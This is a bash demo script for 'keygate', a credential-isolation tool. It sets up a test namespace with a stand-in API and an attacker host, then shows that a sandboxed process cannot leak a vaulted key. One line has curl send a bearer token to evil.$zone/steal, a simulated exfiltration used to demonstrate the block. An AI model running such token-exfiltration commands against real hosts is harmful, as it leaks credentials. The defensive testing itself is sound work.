#!/usr/bin/env bash
# keygate demo: a stand-in API in its own network namespace, keygated on the
# embedded store, a vault with one credential, and curl inside a sandbox.
# The sandbox only ever sees a placeholder; the API receives the real key;
# an unapproved host receives nothing. Everything is removed at the end.
# Run as root from the repository root after `make build`.
set -euo pipefail

if [ "$(id -u)" != 0 ]; then
	echo "demo: run as root" >&2
	exit 1
fi
cd "$(dirname "$0")/.."
work=$(mktemp -d /tmp/keygate-demo.XXXXXX)
kg_pid="" tw_pid=""

cleanup() {
	[ -n "$kg_pid" ] && kill -TERM "$kg_pid" 2>/dev/null && wait "$kg_pid" 2>/dev/null || true
	[ -n "$tw_pid" ] && kill -INT "$tw_pid" 2>/dev/null && wait "$tw_pid" 2>/dev/null || true
	rm -rf "$work"
}
trap cleanup EXIT

step() { printf '\n\033[1m== %s\033[0m\n' "$*"; }

step "starting a stand-in API (api.example.test) and an attacker host (evil.example.test) in network namespace kgdemo"
bin/testworld -name kgdemo -log >"$work/world.json" 2>"$work/world.log" &
tw_pid=$!
for _ in $(seq 50); do [ -s "$work/world.json" ] && break; sleep 0.1; done
[ -s "$work/world.json" ] || { cat "$work/world.log"; exit 1; }
field() { sed -n "s/.*\"$1\":\"\([^\"]*\)\".*/\1/p" "$work/world.json"; }
dns=$(field dns) ca=$(field ca_file) zone=$(field zone)
echo "world DNS $dns, zone $zone"

step "starting keygated (embedded store in $work/state)"
bin/keygated --state-dir "$work/state" --socket "$work/keygate.sock" \
	--upstream-dns "$dns" --upstream-ca "$ca" --allow-private-upstream 10.250.0.0/24 \
	--sandbox-cidr 10.236.0.0/16 --cgroup-parent "$(awk '$3=="cgroup2"{print $2; exit}' /proc/mounts)/keygate-demo" \
	2>"$work/keygated.log" &
kg_pid=$!
export KEYGATE_SOCKET="$work/keygate.sock"
for _ in $(seq 100); do bin/keygate vault list >/dev/null 2>&1 && break; sleep 0.1; done

secret="demo-$(head -c 12 /dev/urandom | od -An -tx1 | tr -d ' \n')"
step "creating vault 'demo' and credential 'api' (secret on stdin, approved for api.$zone only)"
bin/keygate vault create demo
printf '%s\n' "$secret" | bin/keygate cred add demo api --env DEMO_API_KEY --domain "api.$zone"
bin/keygate cred list demo

step "running curl inside a sandbox (no proxy settings; egress captured by eBPF)"
bin/keygate run --vault demo --allow "evil.$zone" -- sh -c '
	echo "inside the sandbox: DEMO_API_KEY=$DEMO_API_KEY"
	echo "-> https://api.'"$zone"'/v1/whoami"
	curl -sS https://api.'"$zone"'/v1/whoami -H "Authorization: Bearer $DEMO_API_KEY"; echo
	echo "-> https://evil.'"$zone"'/steal (allowed host, but not approved for this key)"
	curl -sS https://evil.'"$zone"'/steal -H "Authorization: Bearer $DEMO_API_KEY"; echo'

step "what the stand-in API received (the real key: $secret)"
sleep 0.2
grep -F "api.$zone" "$work/world.log" || echo "(nothing)"
step "what the attacker host received"
grep -F "evil.$zone" "$work/world.log" || echo "(nothing: the request was refused before it left the host)"
step "keygated's decision log (no secret in it)"
grep -E 'request|denied' "$work/keygated.log" || true
if grep -qF "$secret" "$work/keygated.log"; then echo "demo: secret found in keygated's log!" >&2; exit 1; fi
step "done; cleaning up"
